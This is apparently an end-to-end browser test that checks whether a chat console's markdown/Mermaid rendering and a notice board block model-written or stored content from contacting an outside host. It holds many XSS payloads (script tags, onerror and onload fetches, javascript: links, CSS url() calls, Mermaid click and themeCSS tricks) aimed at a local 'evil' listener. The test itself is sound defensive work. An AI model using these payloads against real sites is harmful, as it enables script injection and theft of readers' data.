import assert from 'node:assert/strict'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Page } from 'playwright-core'
import { openPage } from './lib/browser.ts'
import { callAs, enterConsole, settle } from './lib/enter.ts'
import type { Journey } from './lib/journey.ts'
import { addTwin } from './lib/people.ts'
import { commonProduct } from './lib/shared-product.ts'

const theProduct = commonProduct

/** Somebody else's host: whatever reaches it was asked by the reader's browser. */
async function listen(): Promise<{ evil: string; asked: string[]; server: Server }> {
  const asked: string[] = []
  const server = createServer((request, response) => {
    asked.push(request.url ?? '')
    response.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'image/gif' }).end()
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  return { evil: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, asked, server }
}

/** All that a model can write: words that hold HTML, links, pictures, formulas, and diagrams that ask for something or bring handlers along. */
const answersOf = (evil: string): Record<string, string> => ({
  html: `<script>fetch('${evil}/script')</script>\n\n<img src="${evil}/img" onerror="fetch('${evil}/handler')">\n\n<iframe src="${evil}/frame"></iframe>\n\n<svg onload="fetch('${evil}/svg')"></svg>\n\n<link rel="stylesheet" href="${evil}/css"><style>@import url(${evil}/style)</style>`,
  pictures: `![a](${evil}/picture.png)\n\n![b][ref]\n\n[ref]: ${evil}/reference.png\n\n[![c](${evil}/in-link.png)](${evil}/link)`,
  links: `[x](javascript:fetch('${evil}/js')) [y](data:text/html,x) <${evil}/auto> ${evil}/bare`,
  formulas: `$\\includegraphics{${evil}/formula}$ $\\href{javascript:fetch('${evil}')}{x}$ $\\htmlStyle{background:url(${evil}/formula-style)}{y}$ $$\\url{${evil}/formula-url}$$`,
  table: `| <img src=${evil}/cell onerror=alert(1)> | ![t](${evil}/cell-picture) |\n|---|---|\n| 1 | 2 |`,
  'img node': fence(`flowchart LR\n  A@{ img: "${evil}/x?d=secret", label: "words", w: 60, h: 60 }\n  A --> B`),
  'icon node': fence(
    `flowchart LR\n  A@{ icon: "x:y", label: "${evil}" } --> B["<a href='${evil}/a' onclick='alert(1)'>l</a>"]`,
  ),
  themeCSS: fence(
    `%%{init: {"themeCSS": ".node rect{background:url(${evil}/a)} .label{background-image:url(${evil}/b)}"}}%%\ngraph TD; C-->D`,
  ),
  'front matter': fence(
    `---\nconfig:\n  themeCSS: "* {background-image:url(${evil}/f)}"\n  fontFamily: "x; background:url(${evil}/font)"\n---\ngraph TD; E-->F`,
  ),
  'html labels': fence(
    `%%{init: {"htmlLabels": true, "flowchart": {"htmlLabels": true}, "securityLevel": "loose"}}%%\ngraph TD; G["<img src=${evil}/l onerror=fetch('${evil}/onerror')>"] --> H["<svg onload=alert(1)><image href=${evil}/i /></svg>"]`,
  ),
  'class style': fence(`classDiagram\n  class I\n  style I fill:url(${evil}/c)`),
  'flow style': fence(
    `graph TD; J-->K\n  style J fill:url(${evil}/s),background:url(${evil}/s2)\n  classDef q fill:url(${evil}/d)\n  class K q`,
  ),
  'sequence links': fence(
    `sequenceDiagram\n  participant L\n  participant M\n  link L: x @ javascript:fetch('${evil}/seq')\n  links M: {"a": "${evil}/seq-a"}\n  L->>M: <img src=${evil}/msg onerror=alert(1)>`,
  ),
  click: fence(`graph TD; N-->O\n  click N href "javascript:fetch('${evil}/click')"\n  click O call alert(1)`),
  'other kinds': [
    'pie title <img src=EVIL/pie onerror=alert(1)>\n  "a" : 1\n  "b" : 2',
    'gantt\n  title <img src=EVIL/gantt onerror=alert(1)>\n  section s\n  a : 2026-01-01, 2d',
    'mindmap\n  root((<img src=EVIL/mind onerror=alert(1)>))\n    b',
    'stateDiagram-v2\n  [*] --> P : <img src=EVIL/state onerror=alert(1)>',
    'erDiagram\n  Q ||--o{ R : "<img src=EVIL/er onerror=alert(1)>"',
    'journey\n  title <img src=EVIL/journey onerror=alert(1)>\n  section s\n    t: 5: me',
    'timeline\n  title <img src=EVIL/time onerror=alert(1)>\n  2026 : a',
    'block-beta\n  a["<img src=EVIL/block onerror=alert(1)>"]',
    'quadrantChart\n  title <img src=EVIL/quad onerror=alert(1)>\n  A: [0.3, 0.6]',
  ]
    .map((code) => fence(code.replaceAll('EVIL', evil)))
    .join('\n\n'),
})

/** Three answers instead of fifteen: words, single diagrams, and the other kinds of diagrams. */
function pagesOf({ 'other kinds': others = '', ...parts }: Record<string, string>): Record<string, string> {
  const isDiagram = (content: string): boolean => content.includes('```mermaid')
  const join = (kept: (content: string) => boolean): string => Object.values(parts).filter(kept).join('\n\n')
  return { words: join((content) => !isDiagram(content)), diagrams: join(isDiagram), others }
}

function fence(code: string): string {
  return `\`\`\`mermaid\n${code}\n\`\`\``
}

/** What the browser reports about handlers that reached a page and were refused there. */
const isRefusedHandler = (text: string): boolean => /inline event handler|inline script|javascript: URL/i.test(text)

interface Answer {
  data: { messages: { role: string; content: string }[] }
}

/** The stored dialog comes with this answer instead of its own. */
async function answerWith(page: Page, content: string): Promise<void> {
  await page.unrouteAll({ behavior: 'wait' })
  await page.route('**/chatgptMsgView/findDiaWindow*', async (route) => {
    const response = await route.fetch()
    const body = (await response.json()) as Answer
    for (const message of body.data.messages) if (message.role === 'assistant') message.content = content
    await route.fulfill({ response, json: body })
  })
}

/** Each diagram is either a picture or marked as none. */
async function allDiagramsAreSettled(page: Page, count: number): Promise<void> {
  await page.waitForFunction(
    (wanted) => document.querySelectorAll('.md-diagram img, .md-code-note').length >= wanted,
    count,
    { timeout: 60_000 },
  )
}

const markdown: Journey = {
  name: 'whatever a model writes, the reader’s browser asks nobody and refuses no handler',
  tier: 'deep',
  async walk(context) {
    const product = await theProduct()
    const { evil, asked, server } = await listen()
    const { page } = await openPage(context.browser)
    const refused: string[] = []
    page.on('console', (message) => {
      if (isRefusedHandler(message.text())) refused.push(message.text())
    })
    try {
      // What is asked stands in dialogs of nobody else.
      await addTwin(product, 9_043, 'skeptic')
      await enterConsole(page, product, { path: '/chat/dialog', account: 'skeptic' })
      await page.getByText('有什么想问的？').waitFor()
      await page.getByRole('textbox', { name: '提问' }).fill('数到3')
      await page.getByRole('button', { name: '发送', disabled: false }).waitFor()
      await page.getByRole('textbox', { name: '提问' }).press('Enter')
      await page.getByRole('log').getByText('1 2 3').waitFor()
      await page.waitForURL(/dia=\d+/)

      for (const [kind, content] of Object.entries({
        plain: fence('graph LR; A[开始] --> B{可以吗}; B -->|是| C[完成]; B -->|否| A'),
        ...pagesOf(answersOf(evil)),
      })) {
        // One after the other: each is a page of its own. What is asked for names its part by its path.
        await answerWith(page, content)
        await page.reload()
        await page.getByRole('log').locator('.md').last().waitFor()
        await allDiagramsAreSettled(page, content.split('```mermaid').length - 1)
        await settle(page)
        if (kind === 'plain') {
          await page.getByRole('img', { name: /^图表/ }).waitFor()
          await context.picture(page, 'safe-diagram')
        }
        assert.deepEqual([kind, asked, refused], [kind, [], []])
      }
    } finally {
      await page.context().close()
      server.close()
    }
  },
}

const notices: Journey = {
  name: 'a notice and an avatar bring nobody’s host and no handler to the reader, and a notice stands in four forms',
  tier: 'deep',
  async walk(context) {
    const product = await theProduct()
    const { evil, asked, server } = await listen()
    const { page } = await openPage(context.browser)
    const refused: string[] = []
    page.on('console', (message) => {
      if (isRefusedHandler(message.text())) refused.push(message.text())
    })
    try {
      await enterConsole(page, product)
      const hostile = `<p>正文<img src="${evil}/notice" onerror="fetch('${evil}/handler')"><a href="javascript:fetch('${evil}/js')" onclick="alert(1)">链接</a></p><script>fetch('${evil}/script')</script><style>@import url(${evil}/style)</style><svg onload="alert(1)"></svg>`
      await callAs(page, product, 'POST', '/blade-desk/notice/submit', {
        title: '有害的通知',
        category: 1,
        content: hostile,
        releaseTime: '2026-11-20 09:00:00',
      })
      // From before contents were cleaned when saved, and before avatars had to be files of ours.
      await product.query(`update desk_notice set content = $1 where title = '有害的通知'`, [hostile])
      await product.query(`update user_account set avatar = $1 where account = 'admin'`, [`${evil}/avatar.png`])

      await page.reload()
      await page
        .getByRole('region', { name: '通知公告' })
        .getByRole('button', { name: /有害的通知/ })
        .click()
      await page.getByRole('dialog').getByText('正文').waitFor()
      await context.picture(page, 'safe-notice')
      await page.goto(`${product.url}/system/user`)
      await page.getByRole('row').filter({ hasText: 'admin' }).first().waitFor()
      await page.goto(`${product.url}/info/index`)
      await page.getByRole('heading').first().waitFor()
      await settle(page)
      await page.goto(`${product.url}/desk/notice`)
      await page.getByRole('button', { name: '编辑 有害的通知' }).click()
      await page.getByRole('dialog').getByRole('textbox', { name: '通知内容' }).getByText('正文').waitFor()
      await context.picture(page, 'safe-notice-editor')

      const forms = [
        ['zh', { width: 1440, height: 900 }, {}],
        ['dark', { colorScheme: 'dark' }, {}],
        ['en', { language: 'en-US' }, { language: 'en' }],
        ['phone', { width: 390, height: 844 }, {}],
      ] as const
      for (const [form, options, entrance] of forms) {
        // One after the other: one reader at a time.
        const reader = await openPage(context.browser, options)
        await enterConsole(reader.page, product, entrance)
        await reader.page.getByRole('button', { name: /^(通知|Notices)(，|,|$)/ }).click()
        await context.picture(reader.page, `notice-bell-${form}`)
        await reader.page
          .getByRole('tooltip')
          .getByRole('button', { name: /有害的通知/ })
          .click()
        await reader.page.getByRole('dialog').getByText('正文').waitFor()
        await context.picture(reader.page, `notice-panel-${form}`)
        await reader.page.keyboard.press('Escape')
        await reader.page.goto(`${product.url}/desk/notice`)
        await reader.page
          .getByRole('button', { name: /^(新增$|New )/ })
          .first()
          .click()
        await reader.page.getByRole('dialog').getByRole('toolbar').waitFor()
        await context.picture(reader.page, `notice-editor-${form}`)
        await reader.page.context().close()
      }
      assert.deepEqual([asked, refused], [[], []])
    } finally {
      await page.context().close()
      await product.query(`update user_account set avatar = '' where account = 'admin'`)
      await product.query(`update desk_notice set is_deleted = 1 where title = '有害的通知'`)
      server.close()
    }
  },
}

export const journeys: readonly Journey[] = [markdown, notices]
